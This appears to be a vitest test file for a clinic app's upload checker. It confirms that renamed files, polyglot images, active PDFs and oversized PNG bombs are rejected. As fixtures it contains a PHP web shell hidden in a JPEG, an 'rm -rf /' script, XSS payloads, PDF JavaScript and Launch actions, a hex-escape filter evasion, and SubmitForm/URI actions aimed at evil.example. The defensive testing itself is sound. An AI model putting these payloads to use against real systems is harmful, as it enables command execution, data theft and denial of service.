import zlib from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';
import { messages } from '@clinica/shared';
import { PNG_1X1 } from '../../../test/harness.js';
import { checkedType } from './file-content.js';

// Uploads are checked by their whole content (issue 11, item 4): the real type from the bytes,
// the container ending where its format ends, no markup or script inside, no active PDF content.

const IMAGES = ['image/png', 'image/jpeg', 'image/webp'] as const;
const RECEIPTS = [...IMAGES, 'application/pdf'] as const;

/** A PNG chunk with its CRC, so a decoder would accept the file. */
function pngChunk(type: string, data: Buffer) {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([len, body, crc]);
}
const IEND_AT = PNG_1X1.length - 12;
// Real images (their headers declare their size, which is checked).
const JPEG = await sharp({ create: { width: 4, height: 3, channels: 3, background: '#ffffff' } })
  .jpeg()
  .toBuffer();
const WEBP = await sharp({ create: { width: 4, height: 3, channels: 3, background: '#ffffff' } })
  .webp()
  .toBuffer();
function webp(payload: Buffer, sizeDelta = 0) {
  const body = Buffer.concat([Buffer.from('WEBPVP8L', 'latin1'), payload]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(body.length + sizeDelta);
  return Buffer.concat([Buffer.from('RIFF', 'latin1'), size, body]);
}
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');

describe('checkedType', () => {
  it('accepts whole PNG, JPEG, WebP and PDF files by their content', async () => {
    expect(await checkedType(PNG_1X1, IMAGES)).toBe('image/png');
    expect(await checkedType(JPEG, IMAGES)).toBe('image/jpeg');
    expect(await checkedType(WEBP, IMAGES)).toBe('image/webp');
    expect(await checkedType(PDF, RECEIPTS)).toBe('application/pdf');
  });

  it('refuses a type the field does not take, whatever the bytes are', async () => {
    expect(await checkedType(PDF, IMAGES)).toBeUndefined();
    expect(await checkedType(Buffer.alloc(0), IMAGES)).toBeUndefined();
  });

  it('refuses renamed files: HTML, SVG, a script or an executable are not images', async () => {
    for (const bytes of [
      Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>'),
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      Buffer.from('#!/bin/sh\nrm -rf /\n'),
      Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]),
    ]) {
      expect(await checkedType(bytes, RECEIPTS)).toBeUndefined();
    }
  });

  it('refuses polyglots: data after the end of the image, markup inside a valid image', async () => {
    const trailing = Buffer.concat([PNG_1X1, Buffer.from('<html><script>alert(1)</script></html>')]);
    expect(await checkedType(trailing, IMAGES)).toBeUndefined();
    const inChunk = Buffer.concat([
      PNG_1X1.subarray(0, IEND_AT),
      pngChunk('tEXt', Buffer.from('Comment\0<script>fetch("/api/admin/patients")</script>', 'latin1')),
      PNG_1X1.subarray(IEND_AT),
    ]);
    expect(inChunk.subarray(-12).equals(PNG_1X1.subarray(-12))).toBe(true); // a whole PNG by its end
    expect(await checkedType(inChunk, IMAGES)).toBeUndefined();
    const jpegPhp = Buffer.concat([
      JPEG.subarray(0, -2),
      Buffer.from('<?php system($_GET["c"]); ?>'),
      JPEG.subarray(-2),
    ]);
    expect(await checkedType(jpegPhp, IMAGES)).toBeUndefined();
    expect(await checkedType(Buffer.concat([JPEG, Buffer.from('PK\x03\x04zip')]), IMAGES)).toBeUndefined();
    expect(await checkedType(webp(Buffer.from([0x2f, 0, 0, 0, 0]), -3), IMAGES)).toBeUndefined();
  });

  it('keeps harmless text inside an image (metadata) and refuses PDFs with scripts, launches or attachments', async () => {
    const withMeta = Buffer.concat([
      PNG_1X1.subarray(0, IEND_AT),
      pngChunk('tEXt', Buffer.from('Comment\0Recibo de transferencia <Banco General>', 'latin1')),
      PNG_1X1.subarray(IEND_AT),
    ]);
    expect(await checkedType(withMeta, IMAGES)).toBe('image/png');
    for (const active of [
      '/OpenAction<</S/JavaScript/JS(app.alert(1))>>',
      '/AA<</O<</S/Launch/F(cmd.exe)>>>>',
      '/Names<</EmbeddedFiles 2 0 R>>/EmbeddedFile',
    ]) {
      const pdf = Buffer.from(`%PDF-1.4\n1 0 obj<</Type/Catalog${active}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`);
      await expect(checkedType(pdf, RECEIPTS), active).rejects.toMatchObject({ message: messages.pdfActiveContent });
    }
    expect(await checkedType(Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\n'), RECEIPTS)).toBeUndefined(); // cut short
  });
});

describe('active PDF content, parsed (issue 19)', () => {
  const handmade = (objects: string) =>
    Buffer.from(
      `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n${objects}\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
      'latin1',
    );
  const refusedAsActive = async (bytes: Buffer) => {
    await expect(checkedType(bytes, RECEIPTS)).rejects.toMatchObject({
      statusCode: 400,
      message: messages.pdfActiveContent,
    });
  };

  it('refuses a hex-escaped name (/S/J#61vaScript) that no pattern over the bytes sees', async () => {
    const pdf = handmade('3 0 obj<</S/J#61vaScript/J#53(app.alert(1))>>endobj');
    expect(pdf.includes('JavaScript')).toBe(false);
    await refusedAsActive(pdf);
    // A lower-case hex escape (J is 4a), which pdf-lib alone leaves escaped.
    await refusedAsActive(handmade('3 0 obj<</S/#4aavaScript/J#53(app.alert(1))>>endobj'));
  });

  it('refuses JavaScript inside a FlateDecode object stream', async () => {
    const doc = await PDFDocument.create();
    doc.addPage();
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
    const pdf = Buffer.from(await doc.save({ useObjectStreams: true }));
    // The catalog and its action are compressed: the raw bytes say nothing.
    expect(pdf.includes('JavaScript')).toBe(false);
    expect(pdf.includes('FlateDecode')).toBe(true);
    await refusedAsActive(pdf);
  });

  it('refuses /OpenAction with /URI or /SubmitForm, /AA, and embedded files', async () => {
    for (const action of [
      { S: 'URI', URI: PDFString.of('https://evil.example/robar') },
      { S: 'SubmitForm', F: PDFString.of('https://evil.example/form') },
    ]) {
      const doc = await PDFDocument.create();
      doc.addPage();
      doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj(action));
      const pdf = Buffer.from(await doc.save({ useObjectStreams: false }));
      expect(pdf.includes('JavaScript')).toBe(false);
      await refusedAsActive(pdf);
    }
    await refusedAsActive(
      handmade('3 0 obj<</Type/Page/Parent 2 0 R/AA<</O 4 0 R>>>>endobj\n4 0 obj<</S/GoToR/F(otro.pdf)>>endobj'),
    );
    const withFile = await PDFDocument.create();
    withFile.addPage();
    await withFile.attach(Buffer.from('hola'), 'nota.txt', { mimeType: 'text/plain' });
    await refusedAsActive(Buffer.from(await withFile.save()));
  });

  it('accepts a plain PDF, compressed or not, and refuses one that does not parse', async () => {
    const doc = await PDFDocument.create();
    doc.addPage().drawText('Resultado de laboratorio: normal');
    expect(await checkedType(Buffer.from(await doc.save({ useObjectStreams: true })), RECEIPTS)).toBe(
      'application/pdf',
    );
    expect(await checkedType(Buffer.from(await doc.save({ useObjectStreams: false })), RECEIPTS)).toBe(
      'application/pdf',
    );
    expect(await checkedType(handmade(''), RECEIPTS)).toBe('application/pdf');
  });
});

describe('image size, from the header (issue 19)', () => {
  /** A real PNG of width x height, 1 bit per pixel, all black: a few kilobytes that decode to width x height pixels. */
  function bigPng(width: number, height: number) {
    const ihdr = Buffer.alloc(13);
    ihdr.writeUInt32BE(width, 0);
    ihdr.writeUInt32BE(height, 4);
    ihdr.writeUInt8(1, 8); // bit depth
    ihdr.writeUInt8(0, 9); // grayscale
    const row = Buffer.alloc(1 + Math.ceil(width / 8));
    const deflate = zlib.deflateSync(Buffer.concat(Array.from({ length: height }, () => row)), { level: 9 });
    return Buffer.concat([
      PNG_1X1.subarray(0, 8),
      pngChunk('IHDR', ihdr),
      pngChunk('IDAT', deflate),
      pngChunk('IEND', Buffer.alloc(0)),
    ]);
  }

  it('refuses a 20000 x 20000 PNG quickly, without decoding it', async () => {
    const bomb = bigPng(20_000, 20_000);
    const started = performance.now();
    await expect(checkedType(bomb, IMAGES)).rejects.toMatchObject({ statusCode: 400, message: messages.imageTooLarge });
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('refuses one side over 10000 pixels or more than 50 megapixels, and accepts a large photo', async () => {
    await expect(checkedType(bigPng(10_001, 10), IMAGES)).rejects.toMatchObject({ message: messages.imageTooLarge });
    await expect(checkedType(bigPng(8000, 7000), IMAGES)).rejects.toMatchObject({ message: messages.imageTooLarge });
    expect(await checkedType(bigPng(8000, 6000), IMAGES)).toBe('image/png');
  });
});
